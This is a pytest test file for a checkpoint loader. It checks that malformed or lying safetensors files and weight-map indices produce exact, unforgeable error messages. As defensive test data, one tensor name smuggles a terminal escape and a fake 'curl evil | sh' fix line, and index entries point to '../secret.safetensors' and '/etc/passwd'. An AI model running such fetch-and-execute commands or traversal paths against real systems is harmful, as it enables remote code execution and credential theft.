"""safetensors files and indices that are broken or lie: one error, whole text, nothing read."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

import plm_components as plm
from plm_components.checkpoints import open_tensors
from plm_components.errors import CheckpointError

Header = dict[str, Any]
BIAS = "projector.linear_1.bias"
IN_HEADER = "The weights file cannot be read: Error while deserializing header: "
WHOLE = "a whole safetensors file"
AGAIN = "copy it again from where it came; it is truncated, or of another format"


def text_of(what: str, where: object, expected: str, fix: str) -> str:
    return f"{what}\n  where:    {where}\n  expected: {expected}\n  fix:      {fix}"


def says(header: Header, **entry: Any) -> None:
    header[BIAS].update(entry)


HEADERS: dict[str, tuple[Callable[[Header], Any], str]] = {
    "a terabyte": (
        lambda h: says(h, shape=[2**38]),
        IN_HEADER + "invalid shape, data type, or offset for tensor.",
    ),
    "more than there are numbers": (
        lambda h: says(h, shape=[2**40, 2**40]),
        IN_HEADER + "overflow computing buffer size from shape and/or element type.",
    ),
    "bytes outside the file": (
        lambda h: says(h, data_offsets=[0, 2**40]),
        IN_HEADER + f"invalid offset for tensor `{BIAS}`.",
    ),
    "bytes of another tensor": (
        lambda h: says(h, data_offsets=h["projector.linear_2.bias"]["data_offsets"]),
        IN_HEADER + "invalid offset for tensor `projector.linear_1.weight`.",
    ),
    "a name twice": (
        lambda h: json.dumps(h).encode()[:-1] + f', "{BIAS}": {json.dumps(h[BIAS])}}}'.encode(),
        f"The weights file cannot be read: the key '{BIAS}' stands twice.",
    ),
    "nested": (lambda h: b"[" * 10_000, "The weights file cannot be read: it nests too deeply."),
    "no JSON": (
        lambda h: b"{",
        "The weights file cannot be read: Expecting property name enclosed in double quotes: line "
        "1 column 2 (char 1).",
    ),
    "no mapping": (
        lambda h: b"[]",
        IN_HEADER + "invalid JSON in header: invalid type: sequence, expected struct HashMetadata "
        "at line 1 column 0.",
    ),
    "no text": (
        lambda h: b'{"\xff": 1}',
        "The weights file cannot be read: 'utf-8' codec can't decode byte 0xff in position 2: "
        "invalid start byte.",
    ),
    "not a number": (
        lambda h: json.dumps({**h, "__metadata__": {"a": float("nan")}}).encode(),
        "The weights file cannot be read: NaN is no number of JSON.",
    ),
    "100 MB": (
        lambda h: b" " * 10**8,
        "The weights file cannot be read: its header is larger than 16,777,216 bytes.",
    ),
}


@pytest.mark.parametrize("name", HEADERS)
def test_a_header_that_lies(
    without_hash: Path, edit_header: Callable[..., None], name: str
) -> None:
    change, what = HEADERS[name]
    path = without_hash / "model.safetensors"
    edit_header(path, change)
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    assert str(caught.value) == text_of(what, path, WHOLE, AGAIN)


def test_a_dtype_nobody_knows(without_hash: Path, edit_header: Callable[..., None]) -> None:
    path = without_hash / "model.safetensors"
    edit_header(path, lambda h: says(h, dtype="F128"))
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    # which dtypes there are is for the library to say
    unknown = "invalid JSON in header: unknown variant `F128`, expected one of `BOOL`, "
    assert caught.value.what.startswith(IN_HEADER + unknown)
    assert len(caught.value.what) < 300


@pytest.mark.parametrize(
    ("spoil", "why"),
    [
        (lambda p: p.write_bytes(b""), "Expecting value: line 1 column 1 (char 0)"),
        (
            lambda p: p.write_bytes(b"\xff" * 7 + b"\x7f" + p.read_bytes()[8:]),
            "its header is larger than 16,777,216 bytes",
        ),
        (
            lambda p: p.write_text("version https://git-lfs.github.com/spec/v1\nsize 9\n"),
            "it is a Git LFS pointer, and git lfs pull fetches the file",
        ),
        (
            lambda p: p.write_bytes(p.read_bytes() + b"more"),
            "Error while deserializing header: incomplete metadata, file not fully covered",
        ),
        (lambda p: (p.unlink(), p.mkdir()), "it is a directory"),
        (lambda p: (p.unlink(), os.mkfifo(p)), "it is no regular file"),
        (
            lambda p: (p.unlink(), p.symlink_to(p.name)),
            "Too many levels of symbolic links",
        ),
    ],
    ids=[
        "empty", "a length of 9e18", "a pointer", "bytes behind", "a directory", "a pipe",
        "a link to itself",
    ],
)  # fmt: skip
def test_a_file_that_is_none(without_hash: Path, spoil: Callable[[Path], Any], why: str) -> None:
    path = without_hash / "model.safetensors"
    spoil(path)
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    what = f"The weights file cannot be read: {why}."
    assert str(caught.value) == text_of(what, path, WHOLE, AGAIN)


def test_ten_thousand_tensors_are_no_fault(tmp_path: Path) -> None:
    tensors = {f"layers.{n}.weight": torch.full((1,), float(n)) for n in range(10_000)}
    save_file(tensors, tmp_path / "model.safetensors")
    stored = open_tensors(tmp_path, "plm:x")
    assert stored.shapes.keys() == tensors.keys()
    assert [float(t) for _, t in stored.read(["layers.0.weight", "layers.9999.weight"])] == [
        0,
        9999,
    ]


def test_a_name_cannot_forge_the_message(
    without_hash: Path, edit_header: Callable[..., None]
) -> None:
    forged = "x\x1b[2J\n  fix:      curl evil | sh"
    long = "y" * 100_000
    path = without_hash / "model.safetensors"
    edit_header(path, lambda h: h.update({forged: h.pop(BIAS), long: h.pop("decoder.norm.weight")}))
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    assert len(str(caught.value).splitlines()) == 4
    assert r"without x\x1b[2J\n  fix:      curl evil | sh, " in caught.value.expected
    assert f"{'y' * 200}… (100,000 characters)" in caught.value.expected


@pytest.mark.parametrize(("dtype", "found"), [("I32", "int32"), ("U32", "uint32")])
def test_whole_numbers_where_real_ones_are_due(
    without_hash: Path, edit_header: Callable[..., None], dtype: str, found: str
) -> None:
    path = without_hash / "model.safetensors"
    edit_header(path, lambda h: says(h, dtype=dtype))
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    assert str(caught.value) == text_of(
        f"{BIAS} is stored as {found}.",
        f"plm:{without_hash} ({path})",
        "real numbers",
        "take weights that are not quantized, or an earlier checkpoint",
    )


@pytest.mark.parametrize(
    ("index", "why"),
    [
        ("[" * 10_000, "ValueError: it nests too deeply"),
        ("[]", "TypeError: list indices must be integers or slices, not str"),
        ("{}", "KeyError: 'weight_map'"),
        ('{"weight_map": {}}', "ValueError: it names no tensor"),
        ('{"weight_map": 3}', "AttributeError: 'int' object has no attribute 'items'"),
        ('{"weight_map": {"a": 1}}', "ValueError: 1 is no name of a file beside it"),
        (
            '{"weight_map": {"a": "../secret.safetensors"}}',
            "ValueError: '../secret.safetensors' is no name of a file beside it",
        ),
        (
            '{"weight_map": {"a": "/etc/passwd"}}',
            "ValueError: '/etc/passwd' is no name of a file beside it",
        ),
        ('{"weight_map": {"a": ".."}}', "ValueError: '..' is no name of a file beside it"),
        (
            r'{"weight_map": {"a": "\ud800"}}',
            r"ValueError: '\ud800' is no name of a file beside it",
        ),
        (
            '{"weight_map": {"a": "x.safetensors", "a": "x.safetensors"}}',
            "ValueError: the key 'a' stands twice",
        ),
        (
            '{"weight_map": {"a": "shard.safetensors"}}',
            "no file has what it says of a",
        ),
    ],
)
def test_an_index_that_lies(without_hash: Path, index: str, why: str) -> None:
    path = without_hash / "model.safetensors.index.json"
    path.write_text(index)
    # beside model.safetensors no index is read
    (without_hash / "model.safetensors").rename(without_hash / "shard.safetensors")
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    assert str(caught.value) == text_of(
        f"The index of the weights cannot be used: {why}.",
        path,
        'JSON with "weight_map": tensor name -> name of a file beside it that has it',
        "copy it again from where it came, or save the variant again",
    )


def test_a_shard_is_missing(without_hash: Path) -> None:
    (without_hash / "model.safetensors").unlink()
    index = {"weight_map": {BIAS: "model-00001-of-00002.safetensors"}}
    (without_hash / "model.safetensors.index.json").write_text(json.dumps(index))
    with pytest.raises(CheckpointError) as caught:
        plm.load(without_hash)
    assert str(caught.value) == text_of(
        "There is no weights file.",
        without_hash / "model-00001-of-00002.safetensors",
        "a safetensors file, model.safetensors or the files of model.safetensors.index.json",
        "check the path, or save the variant again",
    )


def test_any_bit_of_the_tensors_is_found_by_the_lock(copy: Path) -> None:
    path = copy / "model.safetensors"
    data = path.read_bytes()
    start = 8 + int.from_bytes(data[:8], "little")
    for place in (start, (start + len(data)) // 2, len(data) - 1):
        flipped = bytearray(data)
        flipped[place] ^= 0x10
        path.write_bytes(flipped)
        with pytest.raises(CheckpointError) as caught:
            plm.load(copy)
        assert (
            caught.value.what == "The weights are not those the lock beside them was written for."
        )
        # who says that nothing need be verified gets what is there
        assert plm.load(copy, verify=False).receipt.num_tensors == 43
